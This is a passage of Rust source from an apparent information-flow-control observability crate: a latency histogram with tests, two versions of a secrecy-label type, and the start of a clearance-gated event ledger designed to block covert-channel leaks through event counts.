        let rank = ((p.clamp(0.0, 1.0)) * self.total as f64).ceil().max(1.0) as u64;
        let mut seen = 0;
        for (b, &c) in self.counts.iter().enumerate() {
            seen += c;
            if seen >= rank {
                return bucket_low(b).max(self.min_ns).min(self.max_ns);
            }
        }
        self.max_ns
    }

    /// Minimum sample.
    pub fn min_ns(&self) -> u64 {
        if self.total == 0 {
            0
        } else {
            self.min_ns
        }
    }

    /// Maximum sample.
    pub fn max_ns(&self) -> u64 {
        self.max_ns
    }

    /// Merge another histogram into this one.
    pub fn merge(&mut self, other: &Histogram) {
        for (a, b) in self.counts.iter_mut().zip(other.counts.iter()) {
            *a += b;
        }
        self.total += other.total;
        self.sum_ns += other.sum_ns;
        self.min_ns = self.min_ns.min(other.min_ns);
        self.max_ns = self.max_ns.max(other.max_ns);
    }

    /// One-line summary: `n=… mean=… p50=… p99=… max=…` in µs.
    pub fn summary(&self) -> String {
        format!(
            "n={} mean={:.1}us p50={:.1}us p90={:.1}us p99={:.1}us max={:.1}us",
            self.total,
            self.mean_ns() / 1e3,
            self.percentile_ns(0.50) as f64 / 1e3,
            self.percentile_ns(0.90) as f64 / 1e3,
            self.percentile_ns(0.99) as f64 / 1e3,
            self.max_ns as f64 / 1e3,
        )
    }

    /// A serializable point-in-time digest (what ledger views export).
    pub fn digest(&self) -> HistogramSummary {
        HistogramSummary {
            count: self.total,
            mean_ns: self.mean_ns(),
            p50_ns: self.percentile_ns(0.50),
            p90_ns: self.percentile_ns(0.90),
            p99_ns: self.percentile_ns(0.99),
            min_ns: self.min_ns(),
            max_ns: self.max_ns(),
        }
    }
}

/// Plain-struct digest of a [`Histogram`], for JSON snapshots.
#[derive(Clone, Debug, Default, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct HistogramSummary {
    /// Number of samples.
    pub count: u64,
    /// Mean in nanoseconds.
    pub mean_ns: f64,
    /// Median (lower bucket bound).
    pub p50_ns: u64,
    /// 90th percentile.
    pub p90_ns: u64,
    /// 99th percentile.
    pub p99_ns: u64,
    /// Minimum sample.
    pub min_ns: u64,
    /// Maximum sample.
    pub max_ns: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_monotone() {
        let mut last = 0;
        for ns in [0u64, 1, 15, 16, 17, 100, 1000, 1 << 20, 1 << 40] {
            let b = bucket_of(ns);
            assert!(b >= last, "bucket({ns})={b} < {last}");
            last = b;
            assert!(bucket_low(b) <= ns, "low({b})={} > {ns}", bucket_low(b));
        }
    }

    #[test]
    fn bucket_resolution_within_7_percent() {
        for ns in [100u64, 999, 12345, 1_000_000, 123_456_789] {
            let low = bucket_low(bucket_of(ns));
            let err = (ns - low) as f64 / ns as f64;
            assert!(err < 0.07, "ns={ns} low={low} err={err}");
        }
    }

    #[test]
    fn stats_on_known_data() {
        let mut h = Histogram::new();
        for i in 1..=1000u64 {
            h.record_ns(i * 1000); // 1µs..1ms
        }
        assert_eq!(h.count(), 1000);
        assert!((h.mean_ns() - 500_500.0).abs() < 1.0);
        let p50 = h.percentile_ns(0.5);
        assert!((450_000..=550_000).contains(&p50), "{p50}");
        let p99 = h.percentile_ns(0.99);
        assert!((930_000..=1_000_000).contains(&p99), "{p99}");
        assert_eq!(h.min_ns(), 1000);
        assert_eq!(h.max_ns(), 1_000_000);
    }

    #[test]
    fn percentiles_track_exact_quantiles_within_bucket_resolution() {
        // Uniform samples over a wide range: every reported percentile must
        // be a lower bound on the exact quantile and within one bucket
        // (~7%) of it.
        let mut h = Histogram::new();
        let n = 10_000u64;
        for i in 1..=n {
            h.record_ns(i * 37); // 37ns .. 370µs
        }
        for &(p, rank) in &[(0.5, n / 2), (0.9, n * 9 / 10), (0.99, n * 99 / 100)] {
            let exact = rank * 37;
            let approx = h.percentile_ns(p);
            assert!(approx <= exact, "p{p}: approx {approx} > exact {exact}");
            let err = (exact - approx) as f64 / exact as f64;
            assert!(err < 0.07, "p{p}: approx {approx} exact {exact} err {err}");
        }
        // Extremes: p0 is the exact minimum; p100 is within a bucket of the
        // exact maximum (and never above it).
        assert_eq!(h.percentile_ns(0.0), 37);
        let p100 = h.percentile_ns(1.0);
        assert!(p100 <= n * 37 && p100 >= n * 37 * 93 / 100, "{p100}");
    }

    #[test]
    fn empty_histogram_is_calm() {
        let h = Histogram::new();
        assert_eq!(h.count(), 0);
        assert_eq!(h.mean_ns(), 0.0);
        assert_eq!(h.percentile_ns(0.99), 0);
        assert_eq!(h.min_ns(), 0);
    }

    #[test]
    fn merge_combines() {
        let mut a = Histogram::new();
        let mut b = Histogram::new();
        a.record_ns(100);
        b.record_ns(1_000_000);
        a.merge(&b);
        assert_eq!(a.count(), 2);
        assert_eq!(a.min_ns(), 100);
        assert_eq!(a.max_ns(), 1_000_000);
    }

    #[test]
    fn summary_formats() {
        let mut h = Histogram::new();
        h.record(Duration::from_micros(50));
        let s = h.summary();
        assert!(s.contains("n=1"), "{s}");
    }

    #[test]
    fn digest_roundtrips_through_json() {
        let mut h = Histogram::new();
        for i in 1..=100u64 {
            h.record_ns(i * 10);
        }
        let d = h.digest();
        let s = serde_json::to_string(&d).unwrap();
        let back: HistogramSummary = serde_json::from_str(&s).unwrap();
        assert_eq!(back, d);
        assert_eq!(back.count, 100);
    }
}
