//! Observability-side secrecy labels.
//!
//! `w5-obs` sits below `w5-difc` in the crate graph, so it cannot name
//! `w5_difc::Label` directly; an [`ObsLabel`] is the same mathematical
//! object — a sorted, deduplicated set of tag ids — carried as raw `u64`s.
//! `w5-difc` provides the lossless conversion from its `Label`.
//!
//! Ledger events clone their label on every record, so the representation
//! is built to make clones free: 0–2 tags (the overwhelming majority of
//! real labels — `{}` and `{e_u}`) live inline with no heap allocation,
//! and larger sets share an `Arc<[u64]>` so a clone is a reference-count
//! bump, never a vector copy.

use std::sync::Arc;

const OBS_INLINE: usize = 2;

#[derive(Clone, Debug)]
enum Repr {
    /// Up to two tags stored in place; `tags[len..]` is unused padding.
    Inline { len: u8, tags: [u64; OBS_INLINE] },
    /// Larger sets, shared. Always strictly sorted, length > OBS_INLINE.
    Heap(Arc<[u64]>),
}

/// A secrecy label as the ledger sees it: sorted, deduplicated raw tag ids.
#[derive(Clone)]
pub struct ObsLabel(Repr);

impl ObsLabel {
    /// The empty (public) label.
    pub fn empty() -> ObsLabel {
        ObsLabel(Repr::Inline { len: 0, tags: [0; OBS_INLINE] })
    }

    /// A label of a single tag id.
    pub fn singleton(tag: u64) -> ObsLabel {
        ObsLabel(Repr::Inline { len: 1, tags: [tag, 0] })
    }

    /// Build from arbitrary tag ids (sorted and deduplicated here).
    pub fn from_tags<I: IntoIterator<Item = u64>>(tags: I) -> ObsLabel {
        let mut v: Vec<u64> = tags.into_iter().collect();
        v.sort_unstable();
        v.dedup();
        ObsLabel::from_canonical(v)
    }

    /// Build from a vector the caller guarantees is sorted and deduplicated
    /// (e.g. produced from an already-sorted `w5_difc::Label`). Checked in
    /// debug builds.
    pub fn from_sorted(v: Vec<u64>) -> ObsLabel {
        debug_assert!(v.windows(2).all(|w| w[0] < w[1]), "obs label not strictly sorted");
        ObsLabel::from_canonical(v)
    }

    fn from_canonical(v: Vec<u64>) -> ObsLabel {
        if v.len() <= OBS_INLINE {
            let mut tags = [0u64; OBS_INLINE];
            tags[..v.len()].copy_from_slice(&v);
            ObsLabel(Repr::Inline { len: v.len() as u8, tags })
        } else {
            ObsLabel(Repr::Heap(v.into()))
        }
    }

    /// The tags as a sorted slice.
    pub fn as_slice(&self) -> &[u64] {
        match &self.0 {
            Repr::Inline { len, tags } => &tags[..*len as usize],
            Repr::Heap(a) => a,
        }
    }

    /// Number of tags.
    pub fn len(&self) -> usize {
        self.as_slice().len()
    }

    /// True for the public label.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Membership test.
    pub fn contains(&self, tag: u64) -> bool {
        self.as_slice().binary_search(&tag).is_ok()
    }

    /// Iterate tag ids in ascending order.
    pub fn iter(&self) -> impl Iterator<Item = u64> + '_ {
        self.as_slice().iter().copied()
    }

    /// `self ⊆ other` by linear merge. This is the clearance test: an event
    /// labeled `self` may flow to a viewer cleared for `other` exactly when
    /// the no-privilege secrecy rule `S_event ⊆ S_viewer` holds.
    pub fn is_subset(&self, other: &ObsLabel) -> bool {
        let (a, b) = (self.as_slice(), other.as_slice());
        if a.len() > b.len() {
            return false;
        }
        let mut oi = b.iter();
        'outer: for t in a {
            for o in oi.by_ref() {
                match o.cmp(t) {
                    std::cmp::Ordering::Less => continue,
                    std::cmp::Ordering::Equal => continue 'outer,
                    std::cmp::Ordering::Greater => return false,
                }
            }
            return false;
        }
        true
    }

    /// `self ∪ other` (used to accumulate the label of a latency series).
    pub fn union(&self, other: &ObsLabel) -> ObsLabel {
        let (a, b) = (self.as_slice(), other.as_slice());
        if a.is_empty() {
            return other.clone();
        }
        if b.is_empty() {
            return self.clone();
        }
        let mut out = Vec::with_capacity(a.len() + b.len());
        let (mut i, mut j) = (0, 0);
        while i < a.len() && j < b.len() {
            match a[i].cmp(&b[j]) {
                std::cmp::Ordering::Less => {
                    out.push(a[i]);
                    i += 1;
                }
                std::cmp::Ordering::Greater => {
                    out.push(b[j]);
                    j += 1;
                }
                std::cmp::Ordering::Equal => {
                    out.push(a[i]);
                    i += 1;
                    j += 1;
                }
            }
        }
        out.extend_from_slice(&a[i..]);
        out.extend_from_slice(&b[j..]);
        ObsLabel::from_canonical(out)
    }
}

impl Default for ObsLabel {
    fn default() -> ObsLabel {
        ObsLabel::empty()
    }
}

// Equality, hashing and debug output are representation-blind: they see
// only the canonical sorted tag sequence.
impl PartialEq for ObsLabel {
    fn eq(&self, other: &ObsLabel) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl Eq for ObsLabel {}

impl std::hash::Hash for ObsLabel {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        self.as_slice().hash(state);
    }
}

impl std::fmt::Debug for ObsLabel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "ObsLabel(")?;
        f.debug_list().entries(self.iter()).finish()?;
        write!(f, ")")
    }
}

impl FromIterator<u64> for ObsLabel {
    fn from_iter<I: IntoIterator<Item = u64>>(iter: I) -> ObsLabel {
        ObsLabel::from_tags(iter)
    }
}

// Wire format unchanged from the old `#[serde(transparent)] Vec<u64>`
// derive: a plain JSON array, e.g. `[7,9]`.
impl serde::Serialize for ObsLabel {
    fn to_json(&self) -> serde::Json {
        serde::Json::Arr(self.iter().map(serde::Json::UInt).collect())
    }
}

impl serde::Deserialize for ObsLabel {
    fn from_json(v: &serde::Json) -> Result<ObsLabel, serde::DeError> {
        let tags: Vec<u64> = serde::Deserialize::from_json(v)?;
        Ok(ObsLabel::from_tags(tags))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn subset_semantics() {
        let empty = ObsLabel::empty();
        let a = ObsLabel::from_tags([3, 1]);
        let b = ObsLabel::from_tags([1, 2, 3]);
        assert!(empty.is_subset(&empty));
        assert!(empty.is_subset(&a));
        assert!(a.is_subset(&b));
        assert!(!b.is_subset(&a));
        assert!(a.is_subset(&a));
    }

    #[test]
    fn from_tags_sorts_and_dedups() {
        let l = ObsLabel::from_tags([5, 1, 5, 3]);
        assert_eq!(l.iter().collect::<Vec<_>>(), vec![1, 3, 5]);
        assert_eq!(l.len(), 3);
        assert!(l.contains(3));
        assert!(!l.contains(4));
    }

    #[test]
    fn union_merges() {
        let a = ObsLabel::from_tags([1, 3]);
        let b = ObsLabel::from_tags([2, 3]);
        assert_eq!(a.union(&b).iter().collect::<Vec<_>>(), vec![1, 2, 3]);
    }

    #[test]
    fn serde_roundtrip() {
        let l = ObsLabel::from_tags([7, 9]);
        let json = serde_json::to_string(&l).unwrap();
        assert_eq!(json, "[7,9]");
        let back: ObsLabel = serde_json::from_str(&json).unwrap();
        assert_eq!(back, l);
    }

    #[test]
    fn eq_and_hash_span_representations() {
        use std::collections::HashSet;
        // 3+ tags heap-allocate; a union that collapses back under the
        // inline threshold must still equal an inline-built label.
        let heap = ObsLabel::from_tags([1, 2, 3]);
        assert!(matches!(heap.0, Repr::Heap(_)));
        let inline = ObsLabel::from_tags([1, 2]);
        assert!(matches!(inline.0, Repr::Inline { .. }));
        assert_eq!(inline, ObsLabel::from_sorted(vec![1, 2]));
        let mut set = HashSet::new();
        set.insert(heap.clone());
        assert!(set.contains(&ObsLabel::from_tags([3, 2, 1])));
        // Clones of heap labels share storage (Arc), not copy it.
        let c = heap.clone();
        if let (Repr::Heap(a), Repr::Heap(b)) = (&heap.0, &c.0) {
            assert!(Arc::ptr_eq(a, b));
        } else {
            panic!("expected heap reprs");
        }
    }
}
