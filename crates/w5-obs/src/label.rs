//! Observability-side secrecy labels.
//!
//! `w5-obs` sits below `w5-difc` in the crate graph, so it cannot name
//! `w5_difc::Label` directly; an [`ObsLabel`] is the same mathematical
//! object — a sorted, deduplicated set of tag ids — carried as raw `u64`s.
//! `w5-difc` provides the lossless conversion from its `Label`.

/// A secrecy label as the ledger sees it: sorted, deduplicated raw tag ids.
#[derive(Clone, Debug, Default, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(transparent)]
pub struct ObsLabel(Vec<u64>);

impl ObsLabel {
    /// The empty (public) label.
    pub fn empty() -> ObsLabel {
        ObsLabel(Vec::new())
    }

    /// A label of a single tag id.
    pub fn singleton(tag: u64) -> ObsLabel {
        ObsLabel(vec![tag])
    }

    /// Build from arbitrary tag ids (sorted and deduplicated here).
    pub fn from_tags<I: IntoIterator<Item = u64>>(tags: I) -> ObsLabel {
        let mut v: Vec<u64> = tags.into_iter().collect();
        v.sort_unstable();
        v.dedup();
        ObsLabel(v)
    }

    /// Build from a vector the caller guarantees is sorted and deduplicated
    /// (e.g. produced from an already-sorted `w5_difc::Label`). Checked in
    /// debug builds.
    pub fn from_sorted(v: Vec<u64>) -> ObsLabel {
        debug_assert!(v.windows(2).all(|w| w[0] < w[1]), "obs label not strictly sorted");
        ObsLabel(v)
    }

    /// Number of tags.
    pub fn len(&self) -> usize {
        self.0.len()
    }

    /// True for the public label.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Membership test.
    pub fn contains(&self, tag: u64) -> bool {
        self.0.binary_search(&tag).is_ok()
    }

    /// Iterate tag ids in ascending order.
    pub fn iter(&self) -> impl Iterator<Item = u64> + '_ {
        self.0.iter().copied()
    }

    /// `self ⊆ other` by linear merge. This is the clearance test: an event
    /// labeled `self` may flow to a viewer cleared for `other` exactly when
    /// the no-privilege secrecy rule `S_event ⊆ S_viewer` holds.
    pub fn is_subset(&self, other: &ObsLabel) -> bool {
        if self.0.len() > other.0.len() {
            return false;
        }
        let mut oi = other.0.iter();
        'outer: for t in &self.0 {
            for o in oi.by_ref() {
                match o.cmp(t) {
                    std::cmp::Ordering::Less => continue,
                    std::cmp::Ordering::Equal => continue 'outer,
                    std::cmp::Ordering::Greater => return false,
                }
            }
            return false;
        }
        true
    }

    /// `self ∪ other` (used to accumulate the label of a latency series).
    pub fn union(&self, other: &ObsLabel) -> ObsLabel {
        let mut out = Vec::with_capacity(self.0.len() + other.0.len());
        let (mut i, mut j) = (0, 0);
        while i < self.0.len() && j < other.0.len() {
            match self.0[i].cmp(&other.0[j]) {
                std::cmp::Ordering::Less => {
                    out.push(self.0[i]);
                    i += 1;
                }
                std::cmp::Ordering::Greater => {
                    out.push(other.0[j]);
                    j += 1;
                }
                std::cmp::Ordering::Equal => {
                    out.push(self.0[i]);
                    i += 1;
                    j += 1;
                }
            }
        }
        out.extend_from_slice(&self.0[i..]);
        out.extend_from_slice(&other.0[j..]);
        ObsLabel(out)
    }
}

impl FromIterator<u64> for ObsLabel {
    fn from_iter<I: IntoIterator<Item = u64>>(iter: I) -> ObsLabel {
        ObsLabel::from_tags(iter)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn subset_semantics() {
        let empty = ObsLabel::empty();
        let a = ObsLabel::from_tags([3, 1]);
        let b = ObsLabel::from_tags([1, 2, 3]);
        assert!(empty.is_subset(&empty));
        assert!(empty.is_subset(&a));
        assert!(a.is_subset(&b));
        assert!(!b.is_subset(&a));
        assert!(a.is_subset(&a));
    }

    #[test]
    fn from_tags_sorts_and_dedups() {
        let l = ObsLabel::from_tags([5, 1, 5, 3]);
        assert_eq!(l.iter().collect::<Vec<_>>(), vec![1, 3, 5]);
        assert_eq!(l.len(), 3);
        assert!(l.contains(3));
        assert!(!l.contains(4));
    }

    #[test]
    fn union_merges() {
        let a = ObsLabel::from_tags([1, 3]);
        let b = ObsLabel::from_tags([2, 3]);
        assert_eq!(a.union(&b).iter().collect::<Vec<_>>(), vec![1, 2, 3]);
    }

    #[test]
    fn serde_roundtrip() {
        let l = ObsLabel::from_tags([7, 9]);
        let json = serde_json::to_string(&l).unwrap();
        assert_eq!(json, "[7,9]");
        let back: ObsLabel = serde_json::from_str(&json).unwrap();
        assert_eq!(back, l);
    }
}
