//! The flow ledger: event ring, counters, latency registry and
//! clearance-gated views.
//!
//! Writes are cheap: per-layer counters are lock-free atomics; the bounded
//! event ring and the latency registry take one short `obs.ledger`-classed
//! `w5_sync` mutex each (instances ring=0, latencies=1, published=2,
//! spans=3; never nested). Reads are **labeled operations**: [`Ledger::view`] takes the
//! viewer's clearance (their secrecy label, as an [`ObsLabel`]) and
//!
//! * returns verbatim only events whose secrecy label is a subset of the
//!   clearance (the no-privilege secrecy-flow rule);
//! * replaces everything else with label-aggregated per-layer counts that
//!   are **quantized** (floored to a coarse granularity) and
//!   **rate-limited** (republished only every [`REFRESH_EVERY`] recorded
//!   events, so a low-clearance poller sees a stale snapshot, not a live
//!   signal);
//! * re-issues sequence numbers densely whenever anything was withheld,
//!   so gaps in `seq` cannot leak the exact count of hidden events.
//!
//! Without those three measures the ledger would be precisely the §3.5
//! covert channel: a tainted app could modulate secret bits into event
//! counts and an untainted reader could poll them out.

use crate::event::{Event, EventKind, Layer};
use crate::histogram::{Histogram, HistogramSummary};
use crate::label::ObsLabel;
use crate::trace::{redact_spans, sample_decision, SpanRecord, TraceView};
use w5_sync::Mutex;
use std::collections::{BTreeMap, VecDeque};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Instant;

/// Ring capacity (events retained for cleared viewers).
const DEFAULT_RING_CAP: usize = 4096;

/// Span ring capacity (completed spans retained for trace viewers).
const DEFAULT_SPAN_CAP: usize = 4096;

/// Redacted aggregates are republished every this many recorded events.
pub const REFRESH_EVERY: u64 = 64;

/// Redacted counts are floored to a multiple of this.
pub const QUANTUM: u64 = 16;

/// Pass-outcome flow checks are written to the ring once per this many
/// checks (denials always are).
const CHECK_SAMPLE: u64 = 16;

#[derive(Default)]
struct LayerCounters {
    events: AtomicU64,
    denied: AtomicU64,
}

/// Per-layer event totals.
#[derive(Clone, Debug, Default, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct Aggregate {
    /// Events recorded per layer, keyed by [`Layer::name`].
    pub events: BTreeMap<String, u64>,
    /// Denials recorded per layer.
    pub denied: BTreeMap<String, u64>,
}

struct LatencySeries {
    secrecy: ObsLabel,
    hist: Histogram,
}

/// The published (stale, quantized) aggregate a redacted viewer sees.
struct Published {
    agg: Aggregate,
    /// Events recorded when `agg` was built.
    at: u64,
}

/// The label-aware flow ledger.
pub struct Ledger {
    seq: AtomicU64,
    counters: [LayerCounters; 5],
    checks: AtomicU64,
    ring: Mutex<VecDeque<Event>>,
    ring_cap: usize,
    latencies: Mutex<BTreeMap<String, LatencySeries>>,
    published: Mutex<Published>,
    /// Completed spans, oldest first (see `crate::trace`).
    spans: Mutex<VecDeque<SpanRecord>>,
    span_cap: usize,
    /// Spans recorded per layer (index = `Layer::index`), survives ring
    /// eviction; mixed into `digest`.
    span_counters: [AtomicU64; 5],
    spans_recorded: AtomicU64,
    /// Trace and span id allocator; 0 is reserved for "none".
    ids: AtomicU64,
    /// Head-based sampling: a trace is recorded iff
    /// `sample_decision(trace, seed, threshold)`.
    sample_threshold: AtomicU64,
    sample_seed: AtomicU64,
    /// Base for span timestamps (µs since this instant).
    epoch: Instant,
}

impl Default for Ledger {
    fn default() -> Self {
        Ledger::new()
    }
}

impl Ledger {
    /// A fresh ledger with default capacity.
    pub fn new() -> Ledger {
        Ledger::with_capacity(DEFAULT_RING_CAP)
    }

    /// A fresh ledger retaining at most `ring_cap` events.
    pub fn with_capacity(ring_cap: usize) -> Ledger {
        assert!(ring_cap > 0, "ring capacity must be positive");
        Ledger {
            seq: AtomicU64::new(0),
            counters: Default::default(),
            checks: AtomicU64::new(0),
            ring: Mutex::with_index("obs.ledger", 0, VecDeque::with_capacity(ring_cap.min(1024))),
            ring_cap,
            latencies: Mutex::with_index("obs.ledger", 1, BTreeMap::new()),
            published: Mutex::with_index("obs.ledger", 2, Published { agg: Aggregate::default(), at: 0 }),
            spans: Mutex::with_index("obs.ledger", 3, VecDeque::with_capacity(DEFAULT_SPAN_CAP.min(1024))),
            span_cap: DEFAULT_SPAN_CAP,
            span_counters: Default::default(),
            spans_recorded: AtomicU64::new(0),
            ids: AtomicU64::new(0),
            sample_threshold: AtomicU64::new(u64::MAX),
            sample_seed: AtomicU64::new(0),
            epoch: Instant::now(),
        }
    }

    /// Record one event. Counters always tick; the event enters the ring.
    pub fn record(&self, secrecy: &ObsLabel, kind: EventKind) {
        let seq = self.count(&kind);
        self.push_ring(Event { seq, secrecy: secrecy.clone(), kind });
    }

    /// Hot-path accounting for flow checks (`w5-difc::rules`). Counters
    /// always tick; denials are always written to the ring; passes are
    /// ring-sampled once per [`CHECK_SAMPLE`] checks so per-message rule
    /// evaluation stays a couple of atomic ops.
    pub fn count_check(&self, op: &'static str, allowed: bool, secrecy: &ObsLabel) {
        let nth = self.checks.fetch_add(1, Ordering::Relaxed);
        if allowed && !nth.is_multiple_of(CHECK_SAMPLE) {
            // Counters only.
            let c = &self.counters[Layer::Difc.index()];
            c.events.fetch_add(1, Ordering::Relaxed);
            self.seq.fetch_add(1, Ordering::Relaxed);
            self.maybe_republish();
            return;
        }
        self.record(secrecy, EventKind::LabelCheck { op: op.to_string(), allowed });
    }

    /// Record a latency sample for a named operation. The series' label is
    /// the union of every sample's label: a viewer may see the histogram
    /// only if cleared for everything that flowed through it (timing is a
    /// side channel).
    pub fn time(&self, op: &str, secrecy: &ObsLabel, d: std::time::Duration) {
        let mut lat = self.latencies.lock();
        match lat.get_mut(op) {
            Some(series) => {
                if !secrecy.is_subset(&series.secrecy) {
                    series.secrecy = series.secrecy.union(secrecy);
                }
                series.hist.record(d);
            }
            None => {
                let mut hist = Histogram::new();
                hist.record(d);
                lat.insert(op.to_string(), LatencySeries { secrecy: secrecy.clone(), hist });
            }
        }
    }

    /// Total events recorded (all layers, including ring-sampled checks).
    pub fn events_recorded(&self) -> u64 {
        self.seq.load(Ordering::Relaxed)
    }

    /// Exact live per-layer aggregate (trusted/test use; [`Ledger::view`]
    /// is the clearance-gated path).
    pub fn aggregate(&self) -> Aggregate {
        let mut agg = Aggregate::default();
        for layer in Layer::ALL {
            let c = &self.counters[layer.index()];
            agg.events.insert(layer.name().to_string(), c.events.load(Ordering::Relaxed));
            agg.denied.insert(layer.name().to_string(), c.denied.load(Ordering::Relaxed));
        }
        agg
    }

    /// Read the ledger with the given clearance. This is the **only** path
    /// untrusted viewers get.
    pub fn view(&self, clearance: &ObsLabel) -> LedgerView {
        let ring = self.ring.lock();
        let mut events = Vec::new();
        let mut withheld = 0u64;
        for e in ring.iter() {
            if e.secrecy.is_subset(clearance) {
                events.push(e.clone());
            } else {
                withheld += 1;
            }
        }
        drop(ring);

        let redacted = withheld > 0;
        if redacted {
            // Dense re-issue: seq gaps would count hidden events exactly.
            for (i, e) in events.iter_mut().enumerate() {
                e.seq = i as u64;
            }
        }

        let aggregate = if redacted {
            // Stale + quantized: the published snapshot, floored to QUANTUM.
            self.published.lock().agg.clone()
        } else {
            self.aggregate()
        };

        let lat = self.latencies.lock();
        let mut latencies = BTreeMap::new();
        let mut latencies_withheld = 0u64;
        for (name, series) in lat.iter() {
            if series.secrecy.is_subset(clearance) {
                latencies.insert(name.clone(), series.hist.digest());
            } else {
                latencies_withheld += 1;
            }
        }
        drop(lat);

        LedgerView {
            clearance: clearance.clone(),
            events,
            redacted,
            aggregate,
            latencies,
            latencies_withheld,
        }
    }

    /// JSON snapshot of a clearance-gated view (the exporter).
    pub fn snapshot_json(&self, clearance: &ObsLabel) -> serde_json::Result<String> {
        serde_json::to_string_pretty(&self.view(clearance))
    }

    // ---- causal tracing (see `crate::trace`) ----

    /// Microseconds since this ledger's epoch (span timestamp base).
    pub fn now_us(&self) -> u64 {
        self.epoch.elapsed().as_micros() as u64
    }

    /// Allocate a fresh trace or span id (never 0). Ids are ledger-local
    /// and, on a single-threaded scoped ledger, fully deterministic — the
    /// chaos harness relies on that.
    pub fn alloc_id(&self) -> u64 {
        self.ids.fetch_add(1, Ordering::Relaxed) + 1
    }

    /// Configure head-based trace sampling: `rate` in `[0.0, 1.0]` (the
    /// approximate fraction of traces recorded) and a seed. The decision
    /// per trace is the pure function [`sample_decision`], so a replay
    /// with the same seed samples the same traces.
    pub fn set_trace_sampling(&self, rate: f64, seed: u64) {
        let threshold = (rate.clamp(0.0, 1.0) * u64::MAX as f64) as u64;
        self.sample_threshold.store(threshold, Ordering::Relaxed);
        self.sample_seed.store(seed, Ordering::Relaxed);
    }

    /// The sampling decision for a trace id under the current config.
    pub fn trace_sampled(&self, trace: u64) -> bool {
        sample_decision(
            trace,
            self.sample_seed.load(Ordering::Relaxed),
            self.sample_threshold.load(Ordering::Relaxed),
        )
    }

    /// Record one completed span. Counters always tick; the span enters
    /// the bounded span ring.
    pub fn record_span(&self, span: SpanRecord) {
        self.span_counters[span.layer.index()].fetch_add(1, Ordering::Relaxed);
        self.spans_recorded.fetch_add(1, Ordering::Relaxed);
        let mut spans = self.spans.lock();
        if spans.len() >= self.span_cap {
            spans.pop_front();
        }
        spans.push_back(span);
    }

    /// Total spans recorded (all layers, including ring-evicted ones).
    pub fn spans_recorded(&self) -> u64 {
        self.spans_recorded.load(Ordering::Relaxed)
    }

    /// Read the span ring with the given clearance: spans the clearance
    /// covers come back verbatim, everything else in redacted form (name
    /// hidden, label hidden, timings floored — see
    /// [`SpanRecord::redacted`]). This is the only trace path untrusted
    /// viewers get.
    pub fn trace_view(&self, clearance: &ObsLabel) -> TraceView {
        let spans: Vec<SpanRecord> = self.spans.lock().iter().cloned().collect();
        let (spans, redacted_spans) = redact_spans(&spans, clearance);
        TraceView { clearance: clearance.clone(), spans, redacted_spans }
    }

    /// JSON export of a clearance-gated trace view (what `w5trace` reads).
    pub fn traces_json(&self, clearance: &ObsLabel) -> serde_json::Result<String> {
        serde_json::to_string_pretty(&self.trace_view(clearance))
    }

    /// A stable 64-bit digest (FNV-1a) over the ledger's observable state:
    /// total events recorded, the per-layer counters, every retained ring
    /// event in order, and the *structure* of every retained span (ids,
    /// parent edges, names, layers, labels — everything except wall-clock
    /// timestamps, which legitimately vary between replays). Two runs
    /// that produced the same event and span streams produce the same
    /// digest; the chaos harness uses this to prove that a fault schedule
    /// replays bit-identically from its seed, tracing included.
    pub fn digest(&self) -> u64 {
        const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
        const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;
        fn mix(h: &mut u64, bytes: &[u8]) {
            for &b in bytes {
                *h ^= b as u64;
                *h = h.wrapping_mul(FNV_PRIME);
            }
        }
        let mut h = FNV_OFFSET;
        mix(&mut h, &self.events_recorded().to_le_bytes());
        let agg = self.aggregate();
        for (layer, count) in agg.events.iter().chain(agg.denied.iter()) {
            mix(&mut h, layer.as_bytes());
            mix(&mut h, &count.to_le_bytes());
        }
        let ring = self.ring.lock();
        for e in ring.iter() {
            mix(&mut h, &e.seq.to_le_bytes());
            for tag in e.secrecy.iter() {
                mix(&mut h, &tag.to_le_bytes());
            }
            // EventKind serializes to JSON with a stable field order.
            let kind = serde_json::to_string(&e.kind).expect("event kinds always serialize");
            mix(&mut h, kind.as_bytes());
        }
        drop(ring);
        mix(&mut h, &self.spans_recorded().to_le_bytes());
        for (layer, counter) in Layer::ALL.iter().zip(&self.span_counters) {
            mix(&mut h, layer.name().as_bytes());
            mix(&mut h, &counter.load(Ordering::Relaxed).to_le_bytes());
        }
        let spans = self.spans.lock();
        for s in spans.iter() {
            mix(&mut h, &s.trace.to_le_bytes());
            mix(&mut h, &s.id.to_le_bytes());
            mix(&mut h, &s.parent.unwrap_or(0).to_le_bytes());
            mix(&mut h, s.name.as_bytes());
            mix(&mut h, s.layer.name().as_bytes());
            for tag in s.secrecy.iter() {
                mix(&mut h, &tag.to_le_bytes());
            }
            // Deliberately NOT start_us/end_us: wall time is the one
            // thing a bit-identical replay cannot reproduce.
        }
        h
    }

    /// Like [`Ledger::digest`], but folds only the ring events `keep`
    /// admits, with sequence numbers re-issued densely over the retained
    /// stream, and skips the per-layer aggregates (which would count the
    /// excluded events). Span structure is folded as in `digest`.
    ///
    /// This exists for differential oracles whose two arms legitimately
    /// differ in *executor-dependent metadata* — e.g. the pipelined HTTP
    /// engine emits `QueueAdmit`/`WorkerOccupancy` gauges the reference
    /// thread-per-connection engine never does — while the handler-visible
    /// event stream must still match event for event.
    pub fn digest_where(&self, keep: impl Fn(&EventKind) -> bool) -> u64 {
        const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
        const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;
        fn mix(h: &mut u64, bytes: &[u8]) {
            for &b in bytes {
                *h ^= b as u64;
                *h = h.wrapping_mul(FNV_PRIME);
            }
        }
        let mut h = FNV_OFFSET;
